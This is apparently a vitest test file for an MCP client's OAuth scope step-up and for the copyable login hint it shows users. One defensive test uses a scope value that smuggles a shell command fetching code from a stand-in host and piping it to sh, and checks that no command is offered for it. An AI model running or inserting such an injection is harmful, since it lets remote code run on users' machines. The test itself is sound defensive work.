import { describe, expect, it } from 'vitest'
import { type Session, stepUpRequest } from '../../examples/account.ts'
import { readArguments } from '../../examples/arguments.ts'
import { type Exchange, explain } from '../../examples/failures.ts'
import { type Login, loginStore } from '../../examples/login-store.ts'
import { jsonTerminal } from '../../examples/terminal.ts'

const SERVER = 'https://mcp.example.com/mcp'
const LOGIN: Login = {
  server: SERVER,
  issuer: 'https://auth.example.com',
  registration: 'given',
  client: { client_id: 'client-1', client_secret: 'secret-1' },
  accessToken: 'access-1',
  scope: 'mcp:use reports:read',
}

function optionsOf(...line: readonly string[]) {
  const options = readArguments([SERVER, 'call', 'echo', ...line], {})
  if (options === undefined) throw new Error('No options')
  return options
}

function refusal(challenge: string | undefined, status = 403): Response {
  const headers = challenge === undefined ? {} : { 'www-authenticate': `Bearer ${challenge}` }
  return new Response(null, { status, headers })
}

function sessionOf(response: Response | undefined, ...line: readonly string[]): Session {
  const notices: string[] = []
  return {
    options: optionsOf(...line),
    terminal: { ...jsonTerminal(), log: (_level, text) => notices.push(text) },
    store: loginStore('/nowhere'),
    exchange: response === undefined ? {} : { response },
    cancelled: new AbortController().signal,
  }
}

const MORE = 'error="insufficient_scope", scope="mcp:use documents:process"'

describe('contract: stepping up', () => {
  it('asks for all that the login has and the server wants, at the issuer of the login', () => {
    expect(stepUpRequest(sessionOf(refusal(MORE), '--step-up'), LOGIN)).toMatchObject({
      scope: 'mcp:use reports:read documents:process',
      issuer: LOGIN.issuer,
      identity: { given: LOGIN.client },
    })
  })

  it.each<readonly [Login['registration'], object]>([
    ['given', { given: LOGIN.client }],
    ['metadata-document', { metadataUrl: 'client-1' }],
    ['dynamic', { metadataUrl: undefined }],
  ])('is known to the issuer as before: %s', (registration, identity) => {
    const session = sessionOf(refusal(MORE), '--step-up')
    expect(stepUpRequest(session, { ...LOGIN, registration })?.identity).toEqual(identity)
  })

  it.each<readonly [string, Response | undefined, readonly string[], Login | undefined]>([
    ['without an answer', undefined, ['--step-up'], LOGIN],
    ['without a login', refusal(MORE), ['--step-up'], undefined],
    ['for a 401', refusal(MORE, 401), ['--step-up'], LOGIN],
    ['for a policy that refuses', refusal(undefined), ['--step-up'], LOGIN],
    ['for another error', refusal('error="invalid_token", scope="x"'), ['--step-up'], LOGIN],
    [
      'for scopes that the login has',
      refusal('error="insufficient_scope", scope="reports:read"'),
      ['--step-up'],
      LOGIN,
    ],
    ['when told not to', refusal(MORE), ['--no-step-up'], LOGIN],
    ['for a program', refusal(MORE), ['--json'], LOGIN],
  ])('does not happen %s', (_name, response, line, login) => {
    expect(stepUpRequest(sessionOf(response, ...line), login)).toBeUndefined()
  })
})

describe('threat: a server writes the command that its user copies', () => {
  const hintOf = (scope: string, login: Login | undefined): string | undefined => {
    const response = refusal(`error="insufficient_scope", scope="${scope}"`)
    const exchange: Exchange = { response, login }
    return explain(new Error('Refused'), exchange, optionsOf()).hint
  }

  it.each([
    ['a quote', "x';curl evil.example|sh;'"],
    ['a quote in the middle', "a'b"],
    ['a control character', 'a\u0007b'],
    ['a backslash', 'a\\b'],
  ])('offers no command with %s', (_name, scope) => {
    expect(hintOf(scope, LOGIN)).toBe('Log in with more.')
  })

  it('offers one with all scopes', () => {
    expect(hintOf('documents:process', LOGIN)).toBe(
      "Log in with more: login --scope 'mcp:use reports:read documents:process'",
    )
    expect(hintOf('documents:process', undefined)).toContain('a key with the scopes')
  })
})
